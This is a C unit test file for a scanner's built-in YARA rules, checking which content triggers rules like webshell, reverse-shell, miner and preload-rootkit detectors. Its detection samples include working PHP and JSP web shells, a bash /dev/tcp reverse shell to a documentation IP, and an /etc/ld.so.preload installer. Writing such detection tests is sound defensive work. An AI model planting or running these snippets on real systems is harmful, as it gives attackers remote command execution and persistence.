/*
 * yara_test.c - the built-in YARA rules against made content, externals, bad
 * files, and what is scanned at all.
 */
#include "rule_test.h"

#define MAX_ALERTS 8

struct alerts {
	struct sink sink;
	char name[MAX_ALERTS][80], first[MAX_ALERTS][160];
	size_t n;
	struct str sha256;
};

static int take(struct sink *s, struct event *e)
{
	struct alerts *a = (struct alerts *)s;
	struct str name = ev_get_str(e, KEY_RULE_NAME);
	const struct field *f = ev_get(e, KEY_K_YARA_STRINGS);

	assert_int_equal(e->kind, KIND_YARA);
	assert_int_equal(e->event_kind, EK_ALERT);
	assert_int_equal(ev_get_str(e, KEY_FILE_HASH_SHA256).n, 64);
	assert_non_null(ev_get(e, KEY_K_HITS));
	assert_true(a->n < MAX_ALERTS);
	(void)snprintf(a->name[a->n], sizeof(a->name[0]), STR_FMT,
		       STR_ARG(name));
	if (f)
		(void)snprintf(a->first[a->n], sizeof(a->first[0]), STR_FMT,
			       STR_ARG(f->v.str));
	a->n++;
	return 0;
}

static const struct sink_ops ops = { .event = take };
static struct alerts alerts;

static void scan(struct ruleset *rs, const char *path, struct str data)
{
	struct context ctx = { .collected_ns = 0 };
	struct source src = { .path = str_of(path),
			      .data = data,
			      .size = data.n };
	struct scanner *s = scanner_new(rs);

	alerts = (struct alerts){ .sink = { &ops } };
	assert_true(scanner_wants(s, &src));
	assert_int_equal(
		scanner_source(s, &src, &ctx, &test_event, &alerts.sink), 0);
	scanner_free(s);
}

static struct ruleset *builtin(void)
{
	struct arena a = { 0 };
	struct rule_file *f;
	size_t n = builtin_rules(&a, &f);
	struct ruleset *rs = ruleset_compile(f, n);

	arena_free(&a);
	return rs;
}

#define ELF "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0"

static const struct {
	const char *rule, *path;
	struct str data;
} hits[] = {
#define HIT(r, p, d)                                                           \
	{                                                                      \
		r, p,                                                          \
		{                                                              \
			d, sizeof(d) - 1                                       \
		}                                                              \
	}
	HIT("konseki_webshell_php", "/var/www/a.php",
	    "<?php @eval(base64_decode($_POST['x'])); ?>"),
	HIT("konseki_webshell_php", "/var/www/b.php",
	    "<?php if(isset($_GET['c'])){ system( $_GET['c'] ); }"),
	HIT("konseki_webshell_php", "/var/www/c.php",
	    "<?php $_GET['a']($_POST['b']);"),
	HIT("konseki_webshell_php", "/var/www/d.php", "<?=`$_GET[0]`?>"),
	HIT("konseki_webshell_jsp", "/srv/a.jsp",
	    "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
	HIT("konseki_script_reverse_shell", "/tmp/a.sh",
	    "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
	HIT("konseki_script_reverse_shell", "/tmp/a.py",
	    "import socket,os,pty\ns=socket.socket()\n"
	    "os.dup2(s.fileno(), 0)\npty.spawn(\"/bin/sh\")\n"),
	HIT("konseki_script_miner", "/tmp/m.sh",
	    "#!/bin/sh\npkill -9 xmrig\n./x -o stratum+tcp://p.example:3333"),
	HIT("konseki_script_preload_installer", "/tmp/i.sh",
	    "#!/bin/sh\ngcc -shared -fPIC a.c -o /lib/a.so\n"
	    "echo /lib/a.so > /etc/ld.so.preload\n"),
	HIT("konseki_elf_upx_modified", "/tmp/u",
	    ELF "$Info: This file is packed with the UPX executable packer"),
	HIT("konseki_elf_preload_rootkit", "/lib/h.so",
	    ELF "dlsym readdir readdir64 /etc/ld.so.preload /proc/net/tcp "
		"unlinkat"),
	HIT("konseki_elf_miner", "/tmp/x",
	    ELF "XMRig stratum+tcp:// donate-level randomx"),
	HIT("konseki_elf_shell_over_tls", "/tmp/g",
	    ELF "GSOCKET_SECRET gs-netcat"),
#undef HIT
};

static const struct {
	const char *path;
	struct str data;
} misses[] = {
#define MISS(p, d)                                                             \
	{                                                                      \
		p,                                                             \
		{                                                              \
			d, sizeof(d) - 1                                       \
		}                                                              \
	}
	MISS("/var/www/a.php", "<?php echo htmlspecialchars($_GET['q']);"),
	MISS("/var/www/b.php", "<?php eval($template); system('id');"),
	MISS("/srv/a.jsp", "<% out.print(request.getParameter(\"c\")); %>"),
	MISS("/usr/bin/a.sh",
	     "#!/bin/sh\n# see /dev/tcp in bash(1)\nnc -z db.example.org 5432"),
	MISS("/usr/lib/a.py",
	     "import socket, os\ns = socket.socket()\nos.dup2(fd, 1)\n"),
	MISS("/usr/bin/u",
	     ELF "$Info: This file is packed with the UPX executable packer "
		 "UPX! UPX!"),
	MISS("/lib/l.so", ELF "dlsym readdir readdir64 fopen64"),
	MISS("/etc/cron.d/a", "0 3 * * * root /usr/bin/backup\n"),
#undef MISS
};

static void content_that_must_match(void **state)
{
	struct ruleset *rs = builtin();

	(void)state;
	for (size_t i = 0; i < sizeof(hits) / sizeof(*hits); i++) {
		scan(rs, hits[i].path, hits[i].data);
		if (alerts.n != 1 || strcmp(alerts.name[0], hits[i].rule) != 0)
			fail_msg("%s in %s: %zu, %s", hits[i].rule,
				 hits[i].path, alerts.n, alerts.name[0]);
		assert_true(alerts.first[0][0] == '$');
	}
	ruleset_free(rs);
}

static void content_that_must_not(void **state)
{
	struct ruleset *rs = builtin();

	(void)state;
	for (size_t i = 0; i < sizeof(misses) / sizeof(*misses); i++) {
		scan(rs, misses[i].path, misses[i].data);
		if (alerts.n)
			fail_msg("%s in %s", alerts.name[0], misses[i].path);
	}
	ruleset_free(rs);
}

static void externals_are_of_the_file(void **state)
{
	const struct rule_file f = {
		STR("x.yar"),
		STR("rule a { condition: filename == \"b.PHP\" and "
		    "filepath == \"/var/www\" and extension == \".php\" and "
		    "filetype == \"PHP\" and owner == \"\" and group == \"\" "
		    "}"),
		false
	};
	struct ruleset *rs = ruleset_compile(&f, 1);

	(void)state;
	assert_int_equal(ruleset_info(rs, 0)->state, RULE_ACTIVE);
	scan(rs, "/var/www/b.PHP", STR("<?php"));
	assert_int_equal(alerts.n, 1);
	scan(rs, "/var/www/b.txt.sh", STR("#!/bin/sh"));
	assert_int_equal(alerts.n, 0);
	ruleset_free(rs);
}

static void a_bad_file_loses_only_itself(void **state)
{
	const struct rule_file f[] = {
		{ STR("bad.yar"),
		  STR("rule a { condition: true }\n\nrule b { condition: x }"),
		  false },
		{ STR("include.yar"), STR("include \"/etc/passwd\""), false },
		{ STR("good.yar"), STR("rule a { condition: true }"), false },
		{ STR("again.yar"), STR("rule a { condition: true }"), false },
	};
	struct ruleset *rs = ruleset_compile(f, 4);

	(void)state;
	assert_int_equal(ruleset_count(rs), 4);
	assert_int_equal(ruleset_info(rs, 0)->state, RULE_INVALID);
	assert_int_equal(ruleset_info(rs, 0)->line, 3);
	assert_int_equal(ruleset_info(rs, 1)->state, RULE_INVALID);
	scan(rs, "/tmp/a.sh", STR("#!/bin/sh"));
	assert_int_equal(alerts.n, 2);
	ruleset_free(rs);
}

static bool wants(const char *path, struct str data, unsigned mode,
		  unsigned flags)
{
	struct ruleset *rs = builtin();
	struct scanner *s = scanner_new(rs);
	struct source src = { .path = str_of(path),
			      .data = data,
			      .size = data.n,
			      .mode = mode,
			      .flags = flags };
	bool yes = scanner_wants(s, &src);

	scanner_free(s);
	ruleset_free(rs);
	return yes;
}

static void what_is_scanned(void **state)
{
	(void)state;
	assert_true(wants("/tmp/a", STR(ELF), 0, 0));
	assert_true(wants("/tmp/a", STR("#!/bin/sh"), 0, 0));
	assert_true(wants("/srv/www/a", STR("x <?php y"), 0, 0));
	assert_true(wants("/usr/local/bin/a", STR("data"), 0755, 0));
	assert_true(wants("/etc/cron.d/a", STR("* * * * *"), 0644, 0));
	assert_true(wants("4711-1/exe", STR("x"), 0, SRC_RECOVERED));
	assert_false(wants("/home/u/a.txt", STR("data"), 0644, 0));
	assert_false(wants("/var/log/syslog", STR("data"), 0755, 0));
	assert_false(wants("live/x", STR("#!/bin/sh"), 0, SRC_STREAM));
	assert_false(wants("/tmp/a", STR(""), 0755, 0));
}

int main(void)
{
	const struct CMUnitTest test[] = {
		cmocka_unit_test(content_that_must_match),
		cmocka_unit_test(content_that_must_not),
		cmocka_unit_test(externals_are_of_the_file),
		cmocka_unit_test(a_bad_file_loses_only_itself),
		cmocka_unit_test(what_is_scanned),
	};

	return cmocka_run_group_tests(test, NULL, NULL);
}
